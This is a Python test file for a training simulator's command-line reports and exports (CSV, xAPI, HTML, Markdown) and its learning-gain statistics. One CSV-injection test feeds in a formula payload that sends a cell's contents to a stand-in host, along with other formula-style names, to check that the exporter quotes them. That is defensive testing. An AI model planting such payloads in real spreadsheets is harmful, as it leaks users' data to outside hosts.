"""history / report / export through the CLI on a real database, and the xAPI statements' shape."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import uuid
from collections import Counter

import pytest
from conftest import FIXTURES, run_cli

from scoring.scorer import score
from simulator.format.loader import load
from simulator.play.engine import Play
from simulator.results.store import Store
from simulator.results.xapi import duration, statements

SMALL_SWEATER = str(FIXTURES / "small-sweater.yaml")  # stable: the shipped story grows

TRAINEES = ("Ana", "Ben", "Chloé", "Dan")


@pytest.fixture(scope="module")
def sweater():
    return load(SMALL_SWEATER)


@pytest.fixture(scope="module")
def filled(tmp_path_factory, sweater):
    """20 finished plays, one under way and one abandoned; the expected figures computed apart."""
    db = tmp_path_factory.mktemp("results") / "r.db"
    results = []
    with Store.open(db) as store:
        for seed in range(20):
            rng = random.Random(seed)
            play = Play(sweater, trainee=TRAINEES[seed % 4], lang="en", clock=lambda: 0.0)
            while not play.finished:
                play.choose(rng.randrange(len(play.offered())), seconds=3.0)
                store.save_play(play.record)
            result = score(sweater, play.record)
            store.finish_play(play.record, result)
            results.append((play.record, result))
        for name in ("Eve", "Fay"):
            play = Play(sweater, trainee=name)
            play.choose(0)
            store.save_play(play.record)
        store.abandon(play.record.play_id)
    return db, results


def test_report_json_figures_match_the_plays(filled):
    db, results = filled
    proc = run_cli("report", "--db", str(db), "--json")
    assert proc.returncode == 0, proc.stderr
    rep = json.loads(proc.stdout)
    assert rep["plays"] == 20 and rep["unfinished"] == 1 and rep["trainees"] == 4
    passed = sum(r.passed for _, r in results)
    assert rep["passed"] == passed and rep["pass_rate"] == pytest.approx(passed / 20, abs=1e-4)
    assert rep["mean_score"] == pytest.approx(sum(r.scaled for _, r in results) / 20, abs=0.05)
    verdicts = Counter((p, v.value) for _, r in results for p, v in r.verdicts.items())
    for pid, line in rep["principles"].items():
        for v in ("missed", "violated", "partial", "mastered"):
            assert line[v] == verdicts[(pid, v)], (pid, v)
        assert line["judged"] == sum(verdicts[(pid, v)] for v in ("missed", "violated", "partial", "mastered"))
        assert line["name"] and line["name"] != pid  # named from the catalogue
    chosen = Counter((s.node, s.chosen) for rec, _ in results for s in rec.steps)
    for node in rep["nodes"]:
        for c in node["choices"]:
            assert c["count"] == chosen[(node["node"], c["id"])]
        assert node["total"] == sum(c["count"] for c in node["choices"])
    rates = [line["missed_rate"] + line["violated_rate"] for line in rep["principles"].values()]
    assert rates == sorted(rates, reverse=True)  # the most often missed or violated first


def test_report_filters_text_and_errors(filled):
    db, _ = filled
    text = run_cli("report", "--db", str(db), "--lang", "en")
    assert text.returncode == 0 and "Pass rate" in text.stdout and "Choices made at each node" in text.stdout
    assert max(len(line) for line in text.stdout.splitlines()) <= 80
    fr = run_cli("report", "--db", str(db), "--lang", "fr")
    assert "Taux de réussite" in fr.stdout
    none = json.loads(run_cli("report", "--db", str(db), "--json", "--since", "2999-01-01").stdout)
    assert none["plays"] == 0 and none["principles"] == {}
    # an unknown scenario is one line and a failure, not an empty report (it used to be "0 plays", rc 0)
    for command in (("report",), ("history",), ("export", "--format", "csv")):
        nope = run_cli(*command, "--db", str(db), "--scenario", "nope")
        assert nope.returncode == 2 and nope.stdout == "" and len(nope.stderr.strip().splitlines()) == 1
        assert "unknown scenario" in nope.stderr and "'nope'" in nope.stderr
    typo = run_cli("report", "--db", str(db), "--scenario", "shrunken-sweter").stderr   # a shipped id
    assert "did you mean 'shrunken-sweater'?" in typo
    # a shipped scenario nobody played yet is known: an empty report, not an error
    assert json.loads(run_cli("report", "--db", str(db), "--json", "--scenario", "wrong-bed").stdout)["plays"] == 0
    ana = json.loads(run_cli("report", "--db", str(db), "--json", "--trainee", "Ana").stdout)
    assert ana["plays"] == 5 and ana["trainees"] == 1
    bad = run_cli("report", "--db", str(db), "--since", "last tuesday")
    assert bad.returncode == 2 and len(bad.stderr.strip().splitlines()) == 1 and "not a date" in bad.stderr


def test_a_scenario_known_only_from_stored_plays_is_known(tmp_path):
    db = str(tmp_path / "r.db")
    custom = str(FIXTURES / "loop-timer.yaml")  # not shipped: its id is known from the play stored
    assert run_cli("play", custom, "--choices", "2,1", "--db", db).returncode == 0
    ok = run_cli("report", "--db", db, "--json", "--scenario", "loop-timer")
    assert ok.returncode == 0 and json.loads(ok.stdout)["plays"] == 1
    typo = run_cli("report", "--db", db, "--scenario", "loop-timr")
    assert typo.returncode == 2 and "did you mean 'loop-timer'?" in typo.stderr


def test_history_lists_every_play_with_its_state(filled):
    db, results = filled
    rows = json.loads(run_cli("history", "--db", str(db), "--json").stdout)
    assert len(rows) == 22
    assert sum(r["finished_at"] is not None for r in rows) == 20
    assert sum(r["abandoned_at"] is not None for r in rows) == 1
    text = run_cli("history", "--db", str(db), "--lang", "en", "--trainee", "Eve").stdout
    assert "Eve" in text and "under way" in text and "Fay" not in text


def test_export_csv_opens_as_a_spreadsheet_table(filled, tmp_path):
    db, results = filled
    out = tmp_path / "plays.csv"
    proc = run_cli("export", "--db", str(db), "--format", "csv", "--out", str(out), "--sep", ";")
    assert proc.returncode == 0, proc.stderr
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM, so that spreadsheets read the accents right
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 22
    by_id = {r["play_id"]: r for r in rows}
    for record, result in results:
        row = by_id[record.play_id]
        assert row["trainee"] == record.trainee and "." not in row["score"] + row["seconds"]  # 61,5 with ';'
        assert float(row["score"].replace(",", ".")) == result.scaled
        assert row["passed"] == ("yes" if result.passed else "no") and int(row["steps"]) == len(record.steps)
        for pid, v in result.verdicts.items():
            assert row[pid] == v.value
    assert {r["status"] for r in rows} == {"finished", "unfinished", "abandoned"}
    assert any(r["trainee"] == "Chloé" for r in rows)
    assert any("," in r["score"] for r in rows)  # some scores are not whole
    comma = list(csv.DictReader(io.StringIO(run_cli("export", "--db", str(db), "--format", "csv").stdout)))
    assert {r["play_id"]: r["score"] for r in comma} == {k: v["score"].replace(",", ".") for k, v in by_id.items()}


def test_export_json_and_xapi(filled):
    db, results = filled
    plays = json.loads(run_cli("export", "--db", str(db), "--format", "json").stdout)
    assert len(plays) == 22
    by_id = {p["play_id"]: p for p in plays}
    for record, result in results:
        assert by_id[record.play_id]["steps"] == [s.to_dict() for s in record.steps]
        assert by_id[record.play_id]["score"]["scaled"] == result.scaled
    stmts = json.loads(run_cli("export", "--db", str(db), "--format", "xapi", "--trainee", "Ben").stdout)
    ben = [(rec, r) for rec, r in results if rec.trainee == "Ben"]
    assert len(stmts) == sum(len(rec.steps) + 3 for rec, _ in ben)
    assert {s["actor"]["name"] for s in stmts} == {"Ben"}


def test_xapi_activity_base_is_the_consultants_own(filled):
    """--xapi-base (or $LITIGE_XAPI_BASE) puts activity ids, extensions and accounts under the
    client's own IRI; statement ids do not depend on it, so a statement stays one statement."""
    db, _ = filled
    default = json.loads(run_cli("export", "--db", str(db), "--format", "xapi", "--trainee", "Ana").stdout)
    base = "https://lms.client.example/formation/litige"
    proc = run_cli("export", "--db", str(db), "--format", "xapi", "--trainee", "Ana", "--xapi-base", base + "/")
    assert proc.returncode == 0, proc.stderr
    own = json.loads(proc.stdout)
    by_env = json.loads(run_cli("export", "--db", str(db), "--format", "xapi", "--trainee", "Ana",
                                env={"LITIGE_XAPI_BASE": base}).stdout)
    assert own == by_env and [s["id"] for s in own] == [s["id"] for s in default]
    text = json.dumps(own)
    assert "litige.example" not in text
    for s in own:
        assert s["object"]["id"].startswith(base + "/scenarios/")
        assert s["actor"]["account"]["homePage"] == "https://lms.client.example"
        assert all(k.startswith(base + "/extensions/") for k in s["context"]["extensions"])
    for bad in ("lms.client.example", "ftp://x.example/a", "https://x.example/a?b=1"):
        proc = run_cli("export", "--db", str(db), "--format", "xapi", "--xapi-base", bad)
        assert proc.returncode == 2 and "--xapi-base" in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
    proc = run_cli("export", "--db", str(db), "--format", "csv", "--xapi-base", base)
    assert proc.returncode == 2 and "--format xapi" in proc.stderr


def test_push_queues_statements_under_the_given_base(tmp_path, sweater):
    from simulator.results.push import queue
    db = tmp_path / "q.db"
    base = "https://lms.client.example/litige"
    with Store.open(db) as store:
        play = Play(sweater, trainee="Ana", clock=lambda: 0.0)
        while not play.finished:
            play.choose(0)
        store.finish_play(play.record, score(sweater, play.record))
        assert queue(store, base=base) == len(play.record.steps) + 3
        items = store.unsent(limit=100)
    assert items and all(i.statement["object"]["id"].startswith(f"{base}/scenarios/{sweater.id}") for i in items)


def test_export_html_is_a_standalone_page_with_the_principle_chart(filled, tmp_path, sweater):
    db, results = filled
    out = tmp_path / "group.html"
    proc = run_cli("export", "--db", str(db), "--format", "html", "--out", str(out), "--lang", "en")
    assert proc.returncode == 0, proc.stderr
    page = out.read_text(encoding="utf-8")
    assert page.startswith("<!DOCTYPE html>") and page.rstrip().endswith("</html>")
    assert "<script" not in page and not re.search(r'(src|href)\s*=\s*"(https?:)?//', page)
    assert "@import" not in page and "url(" not in page  # no external asset of any kind
    principles = {p for _, r in results for p in r.verdicts}
    assert principles
    for pid in principles:
        from scoring.catalogue import load_catalogue
        assert load_catalogue()[pid].name.get("en") in page
    assert page.count('class="bar"') == len(principles)
    assert "✗" in page and "violated" in page  # parts labelled with a symbol and a word, not only colour
    md = run_cli("export", "--db", str(db), "--format", "md", "--lang", "fr").stdout
    assert md.startswith("# Bilan du groupe") and "| principe |" in md


def test_export_errors_are_one_line(filled, tmp_path):
    db, _ = filled
    proc = run_cli("export", "--db", str(db), "--format", "csv", "--out", str(tmp_path / "no" / "such" / "dir.csv"))
    assert proc.returncode == 2 and "cannot write" in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
    proc = run_cli("export", "--db", str(db), "--format", "csv", "--sep", ";;")
    assert proc.returncode == 2 and "--sep" in proc.stderr


def test_xapi_statements_are_deterministic_and_well_formed(filled, sweater):
    db, results = filled
    with Store.open(db) as store:
        play = store.load_play(results[0][0].play_id)
        other = store.load_play(results[1][0].play_id)
    first, again = statements(play, sweater), statements(play, sweater)
    assert first == again  # the same statements, ids included, every time
    assert not {s["id"] for s in first} & {s["id"] for s in statements(other, sweater)}
    assert len({s["id"] for s in first}) == len(first) == len(play.record.steps) + 3
    assert [s["verb"]["id"].rsplit("/", 1)[1] for s in first] == \
        ["initialized", *["answered"] * len(play.record.steps), "completed", "passed" if play.passed else "failed"]
    for s in first:
        uuid.UUID(s["id"])
        assert s["verb"]["id"].startswith("http://adlnet.gov/expapi/verbs/")
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", s["timestamp"])
        assert s["context"]["registration"] == str(uuid.UUID(play.record.play_id))
    # without the scenario (a custom file no longer at hand) the principles come from the stored verdicts
    bare = statements(play, None)
    assert [s["id"] for s in bare] == [s["id"] for s in first]
    for a, b in zip(first, bare):
        if a["verb"]["id"].endswith("answered"):
            assert a["result"]["extensions"] == b["result"]["extensions"]


def test_iso_durations():
    assert duration(0) == "PT0S"
    assert duration(12.5) == "PT12.5S"
    assert duration(75) == "PT1M15S"
    assert duration(3723.25) == "PT1H2M3.25S"


def test_play_with_db_and_trainee_stores_the_play_and_keeps_its_json(tmp_path):
    db = str(tmp_path / "cli.db")
    plain = run_cli("play", SMALL_SWEATER, "--choices", "2,1", "--json")
    stored = run_cli("play", SMALL_SWEATER, "--choices", "2,1", "--json", "--db", db, "--trainee", "Ana")
    assert plain.returncode == stored.returncode == 0, stored.stderr
    a, b = json.loads(plain.stdout), json.loads(stored.stdout)
    assert a.keys() == b.keys() and {**a, "play_id": None} == {**b, "play_id": None}  # same output
    assert not (tmp_path / "other.db").exists()
    rows = json.loads(run_cli("--db", db, "history", "--json").stdout)  # global --db before the command
    assert [(r["play_id"], r["trainee"], r["scaled"]) for r in rows] == [(b["play_id"], "Ana", b["score"]["scaled"])]
    # a read-only command on a path with no database: one line, a failure, nothing created
    # (it used to create an empty database there and print an empty list)
    missing = tmp_path / "newdir" / "typo.db"
    for command in (("history", "--json"), ("report",), ("export", "--format", "csv"), ("room", "--once"),
                    ("push", "--lrs", "http://127.0.0.1:9/xAPI/")):
        proc = run_cli("--db", str(missing), *command)
        assert proc.returncode == 2 and proc.stdout == "", (command, proc.stdout)
        assert len(proc.stderr.strip().splitlines()) == 1 and str(missing) in proc.stderr, proc.stderr
        proc = run_cli(*command, env={"LITIGE_DB": str(missing)})
        assert proc.returncode == 2 and "no results database at" in proc.stderr
    assert not (tmp_path / "newdir").exists()


def test_play_saves_when_a_database_is_named_by_litige_db_alone(tmp_path):
    """README: results go where --db or LITIGE_DB say; `play` used to save only with --db or --trainee."""
    db = tmp_path / "env.db"
    proc = run_cli("play", SMALL_SWEATER, "--choices", "2,1", "--json", env={"LITIGE_DB": str(db)})
    assert proc.returncode == 0, proc.stderr
    rows = json.loads(run_cli("history", "--json", env={"LITIGE_DB": str(db)}).stdout)
    assert [(r["play_id"], r["trainee"]) for r in rows] == [(json.loads(proc.stdout)["play_id"], None)]


def test_read_commands_on_the_default_database_not_made_yet_say_no_plays_and_create_nothing(tmp_path):
    home = tmp_path / "home"
    env = {"LITIGE_DB": "", "XDG_DATA_HOME": str(home), "HOME": str(home)}
    proc = run_cli("history", "--json", env=env)
    assert proc.returncode == 0 and json.loads(proc.stdout) == [], proc.stderr
    proc = run_cli("report", "--json", env=env)
    assert proc.returncode == 0 and json.loads(proc.stdout)["plays"] == 0, proc.stderr
    assert not home.exists()


def test_report_of_the_shipped_stories_fits_80_columns(tmp_path):
    """Long choice ids and texts of the real stories are clipped, not wrapped past 80 columns."""
    db = str(tmp_path / "r.db")
    check = json.loads(run_cli("check", "--json", "scenarios/shrunken-sweater.yaml",
                               "scenarios/subcontractor-error.yaml").stdout)
    for f in check["files"]:
        for ending in f["summary"]["score"]["endings"].values():  # the lowest and highest play of each ending
            for picks, variant in ((ending["lo_play"], ending["lo_variant"]), (ending["hi_play"], ending["hi_variant"])):
                proc = run_cli("play", f["scenario"], "--choices", picks, "--db", db, "--trainee", "Ana",
                               *(["--variant", variant] if variant else []))
                assert proc.returncode == 0, proc.stderr
    for lang in ("fr", "en"):
        out = run_cli("report", "--db", db, "--lang", lang).stdout
        assert "shrunken-sweater / accueil" in out and "subcontractor-error / " in out
        assert max(len(line) for line in out.splitlines()) <= 80


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path):
    """OWASP's CSV injection advice: text starting with = + - @ tab or CR gets a leading quote
    (a trainee named =HYPERLINK(...) used to be written as it was); numbers stay numbers."""
    from simulator.results.reports import csv_cell
    db = str(tmp_path / "r.db")
    evil = '=HYPERLINK("http://x/?"&A1,"click")'
    names = (evil, "+1+cmd", "-2+3", "@SUM(A1)", "Ana-Marie", "=")
    for name in names:
        assert run_cli("play", SMALL_SWEATER, "--choices", "2,1", "--db", db, f"--trainee={name}").returncode == 0
    out = run_cli("export", "--db", db, "--format", "csv").stdout.lstrip("\ufeff")
    trainees = sorted(r["trainee"] for r in csv.DictReader(io.StringIO(out, newline="")))
    assert trainees == sorted(["'" + evil, "'+1+cmd", "'-2+3", "'@SUM(A1)", "Ana-Marie", "'="])
    assert [csv_cell(v) for v in ("\tTab", "\rCR", "x=1")] == ["'\tTab", "'\rCR", "x=1"]  # names are stripped
    assert [csv_cell(v) for v in ("-3", "+4", "-1.5", 7, -2, "1e5", "Ana")] == ["-3", "+4", "-1.5", 7, -2, "1e5", "Ana"]


def test_each_anonymous_play_is_its_own_xapi_agent(tmp_path, sweater):
    """Plays without a name used to share one agent, 'anonymous', which an LMS merges into one
    learner; each is now `anonymous-PLAY_ID` (deterministic), named ones stay their name."""
    db = str(tmp_path / "r.db")
    ids = [json.loads(run_cli("play", SMALL_SWEATER, "--choices", "2,1", "--json", "--db", db).stdout)["play_id"]
           for _ in range(2)]
    run_cli("play", SMALL_SWEATER, "--choices", "2,1", "--db", db, "--trainee", "Ana")
    first = json.loads(run_cli("export", "--db", db, "--format", "xapi").stdout)
    again = json.loads(run_cli("export", "--db", db, "--format", "xapi").stdout)
    assert first == again
    by_play: dict[str, set] = {}
    for s in first:
        by_play.setdefault(s["context"]["extensions"]["https://litige.example/xapi/extensions/play-id"], set()).add(
            json.dumps(s["actor"], sort_keys=True))
    agents = {pid: json.loads(next(iter(a))) for pid, a in by_play.items() if len(a) == 1}
    assert len(agents) == 3                                   # one agent per play, the same in all its statements
    assert {agents[i]["account"]["name"] for i in ids} == {f"anonymous-{i}" for i in ids}
    assert sorted(a["account"]["name"] for a in agents.values() if not a["account"]["name"].startswith("anon")) \
        == ["Ana"]


# -- issue 18: the group's learning gain, names matched on their start, the French filter line,
# -- plural agreement, the saved language ------------------------------------------------------

def _store_plays(store, sweater, trainee, day, picks, *, mode="exam"):
    """One finished play of small-sweater by `trainee` on a fake day, choices given as 0-based picks."""
    from dataclasses import replace
    play = Play(sweater, trainee=trainee, clock=lambda: 0.0)
    for i in picks:
        play.choose(i, seconds=2.0)
    record = replace(play.record, started_at=f"2026-11-{day:02d}T09:00:00+00:00", mode=mode)
    result = score(sweater, record)
    store.finish_play(record, result)
    return record.play_id, result.scaled


@pytest.fixture(scope="module")
def days(tmp_path_factory, sweater):
    """Scripted plays over several days; each play's score is checked against the one written
    here, from which the gain is computed by hand in the tests."""
    db = tmp_path_factory.mktemp("gain") / "g.db"
    plays = [  # trainee, day, picks, score, mode
        ("Ana Dupont", 1, [0, 1], 0.0, "exam"),
        ("Ana Dupont", 2, [0, 0, 0], 54.5, "exam"),
        ("Ana Dupont", 3, [1, 1], 72.7, "exam"),
        ("Ben", 1, [0, 0, 1], 27.3, "exam"),
        ("Ben", 4, [1, 2], 45.5, "exam"),
        ("Chloé", 2, [1, 0], 100.0, "exam"),           # one attempt: no pair
        (None, 2, [1, 0], 100.0, "exam"),              # no name: left out
        ("Ana Dupont", 1, [1, 1], 72.7, "coach"),      # coach mode: paired apart
        ("Ana Dupont", 5, [1, 0], 100.0, "coach"),
        ("Ben", 1, [1, 0], 100.0, "exam"),             # scored by the first rules (below): left out
    ]
    with Store.open(db) as store:
        ids = []
        for trainee, day, picks, expected, mode in plays:
            pid, scaled = _store_plays(store, sweater, trainee, day, picks, mode=mode)
            assert scaled == expected, (trainee, day, picks, scaled)
            ids.append(pid)
        store._conn.execute("UPDATE plays SET rules = '2026-11' WHERE play_id = ?", (ids[-1],))
    return db


def test_report_gain_first_play_against_best_later_computed_by_hand(days):
    proc = run_cli("report", "--db", str(days), "--json")
    assert proc.returncode == 0, proc.stderr
    gain = json.loads(proc.stdout)["gain"]
    assert gain["left_out"] == {"first_rules": 1, "anonymous": 1}
    exam = gain["modes"]["exam"]["scenarios"]["shrunken-sweater"]
    # Ana 0 → 54.5, 72.7 (best later 72.7); Ben 27.3 → 45.5 (his 100 by the first rules left out); Chloé single
    first, later = (0 + 27.3) / 2, (72.7 + 45.5) / 2
    assert exam["paired"] == 2 and exam["single"] == 1
    assert exam["mean_first"] == pytest.approx(first, abs=1e-4) and exam["mean_best_later"] == pytest.approx(later, abs=1e-4)
    assert exam["mean_gain"] == pytest.approx(later - first, abs=1e-4)
    assert exam["hake_g"] == pytest.approx((later - first) / (100 - first), abs=1e-4)
    assert exam["mean_individual_g"] == pytest.approx((72.7 / 100 + (45.5 - 27.3) / (100 - 27.3)) / 2, abs=1e-4)
    coach = gain["modes"]["coach"]["scenarios"]["shrunken-sweater"]  # Ana's coach plays, apart from her exams
    assert (coach["paired"], coach["mean_first"], coach["mean_best_later"], coach["hake_g"]) == (1, 72.7, 100, 1.0)
    p = gain["modes"]["exam"]["principles"]
    # empathize: Ana missed → mastered, Ben missed → mastered; own-it: Ana violated → mastered, Ben missed → missed;
    # no-blame (no choice applies it, a choice violates it): Ana violated it at accueil on day 1, and on
    # day 3 went through accueil without violating it: kept there, mastered (scoring.verdict.Avoidance,
    # as her profile says); Ben violated it on day 1 and again on day 4: the same
    assert (p["empathize"]["paired"], p["empathize"]["improved"], p["empathize"]["single"]) == (2, 2, 1)
    assert (p["own-it"]["improved"], p["own-it"]["same"], p["own-it"]["improved_share"]) == (1, 1, 0.5)
    assert (p["no-blame"]["improved"], p["no-blame"]["same"]) == (1, 1)
    assert p["empathize"]["name"] == "Reconnaître le ressenti"


def test_report_gain_in_text_markdown_and_html(days, tmp_path):
    for lang, heads in (("fr", ("Progression", "Mode examen (6 parties)", "Mode coach (2 parties)", "<g>", "seul·es")),
                        ("en", ("Learning gain", "Exam mode (6 plays)", "Coach mode (2 plays)", "<g>", "single"))):
        out = run_cli("report", "--db", str(days), "--lang", lang).stdout
        gain = out[out.index(heads[0]):]
        assert all(h in gain for h in heads), gain
        assert max(len(line) for line in out.splitlines()) <= 80
        assert "Hake" in gain and ("premières règles" in gain if lang == "fr" else "first rules" in gain)
        shares = [int(m[1]) for m in re.finditer(r" \d+ \((\d+)\s?%\)", gain.split("\n\n")[-2])]  # exam's table
        assert shares and shares == sorted(shares)  # where the fewest improved first
    fr = run_cli("report", "--db", str(days), "--lang", "fr").stdout
    exam = fr[fr.index("Mode examen"):]
    row = next(line for line in exam.splitlines() if line.startswith("shrunken-sweater"))
    assert row.split() == ["shrunken-sweater", "2", "1", "13,7", "59,1", "+45,5", "0,53", "0,49"]
    md = run_cli("export", "--db", str(days), "--format", "md", "--lang", "en").stdout
    assert "## Learning gain" in md and "### Exam mode (6 plays)" in md and "&lt;g&gt;" in md
    page = run_cli("export", "--db", str(days), "--format", "html", "--lang", "en").stdout
    assert "<h2>Learning gain" in page and "Hake" in page and "<td class=n>+45.5</td>" in page


def test_report_filter_line_in_french_and_counts_agree(days):
    # the filter line was English ("scenario …, since …") and one trainee was "1 apprenant·es"
    out = run_cli("report", "--db", str(days), "--lang", "fr", "--scenario", "shrunken-sweater",
                  "--since", "2026-11-01", "--trainee", "ben").stdout
    head = out.splitlines()[1]
    assert head.strip() == "scénario shrunken-sweater, depuis le 2026-11-01, apprenant·e «\u202fben\u202f» (1\u00a0: Ben)"
    assert "1 apprenant·e," in out and "apprenant·es" not in out.split("\n\n")[1]
    assert "1 partie notée selon les premières règles" in out and "partie(s)" not in out
    en = run_cli("report", "--db", str(days), "--lang", "en", "--since", "today").stdout
    assert en.splitlines()[1].strip() == "since today" and "0 finished plays" not in en
    today = run_cli("report", "--db", str(days), "--lang", "fr", "--since", "today").stdout
    assert today.splitlines()[1].strip() == "depuis aujourd’hui"


def test_trainee_is_matched_on_a_names_start_case_and_accents_aside(days):
    # `history --trainee "Ana"` said nothing when the stored name was "Ana Dupont"
    for query in ("Ana", "ana", "ANA D", "  ana   dupont "):
        proc = run_cli("history", "--db", str(days), "--json", "--trainee", query, "--lang", "en")
        assert {r["trainee"] for r in json.loads(proc.stdout)} == {"Ana Dupont"}, query
        assert "1 trainee matches" in proc.stderr and "Ana Dupont" in proc.stderr
    chloe = run_cli("history", "--db", str(days), "--trainee", "chloe", "--lang", "fr")
    assert "Chloé" in chloe.stdout and "1 apprenant·e correspond à «\u202fchloe\u202f»" in chloe.stderr
    nobody = run_cli("history", "--db", str(days), "--trainee", "Zed", "--lang", "en")
    assert nobody.returncode == 0 and "No stored plays." in nobody.stdout and "0 trainees match “Zed”" in nobody.stderr
    two = run_cli("report", "--db", str(days), "--json", "--trainee", "")
    assert json.loads(two.stdout)["plays"] == 0
    rep = json.loads(run_cli("report", "--db", str(days), "--json", "--trainee", "a").stdout)
    assert rep["trainees_matched"] == ["Ana Dupont"] and rep["plays"] == 5
    csv_out = run_cli("export", "--db", str(days), "--format", "csv", "--trainee", "b", "--lang", "en")
    assert {r["trainee"] for r in csv.DictReader(io.StringIO(csv_out.stdout.lstrip("\ufeff")))} == {"Ben"}
    assert "1 trainee matches “b”: Ben" in csv_out.stderr


def test_names_matching_rule():
    from simulator.results.store import match_names, name_key
    names = ["Ana", "Ana Dupont", "Anaïs", "Chloé", "CHLOE B", "Ben"]
    assert match_names("ana", names) == ["Ana"]                       # the name itself wins
    assert match_names("ana ", names) == ["Ana"]
    assert match_names("Ana D", names) == ["Ana Dupont"]
    assert match_names("anai", names) == ["Anaïs"]
    assert match_names("chloe", names) == ["Chloé"]                   # equal, accents aside
    assert match_names("chl", names) == ["Chloé", "CHLOE B"]
    assert match_names("", names) == [] and match_names("Zed", names) == []
    assert name_key("Chlo\u0065\u0301") == name_key("Chlo\u00e9") == "chloe"  # decomposed or composed é
    from simulator.results.reports import matched_line
    many = [f"Trainee {i:02d}" for i in range(12)]
    line = matched_line("trainee", many, "en")  # the count, then the first ten names: one line, not 120
    assert line.startswith("12 trainees match “trainee”: Trainee 00, ") and line.endswith("Trainee 09, …")


def test_plural_rule():
    """(The language's order of precedence, tested here before the Settings took it over, is
    tests/test_settings.py's.)"""
    from simulator.lang.i18n import plural_one, t
    assert [plural_one(n, "fr") for n in (0, 1, 1.5, 2)] == [True, True, True, False]
    assert [plural_one(n, "en") for n in (0, 1, 2)] == [False, True, False]
    assert t("results.report.summary", "fr", plays=1, trainees=2, unfinished=0) == \
        "1 partie terminée, 2 apprenant·es, 0 en cours"
    assert t("results.report.summary", "en", plays=0, trainees=1, unfinished=3) == \
        "0 finished plays, 1 trainee, 3 under way"


def test_list_history_report_use_the_language_chosen_in_the_game(tmp_path):
    # the game's `l` was saved in the store but `litige list / history / report` ignored it
    db = tmp_path / "lang.db"
    assert run_cli("play", SMALL_SWEATER, "--choices", "2,1", "--db", str(db), "--trainee", "Ana").returncode == 0
    with Store.open(db) as store:
        store.set_setting("lang", "en")
    env = {"LITIGE_LANG": "", "LITIGE_DB": str(db)}
    assert "The shrunken sweater" in run_cli("list", env=env).stdout
    assert run_cli("history", env=env).stdout.startswith("started (UTC)")
    assert run_cli("report", "--db", str(db), env={"LITIGE_LANG": ""}).stdout.startswith("Group report")
    assert run_cli("report", "--lang", "fr", env=env).stdout.startswith("Bilan du groupe")          # the flag first
    assert run_cli("report", env={**env, "LITIGE_LANG": "fr"}).stdout.startswith("Bilan du groupe")  # then the variable
    with Store.open(db) as store:
        store.set_setting("lang", "fr")
    assert "Le commentaire en colère" in run_cli("list", env=env).stdout
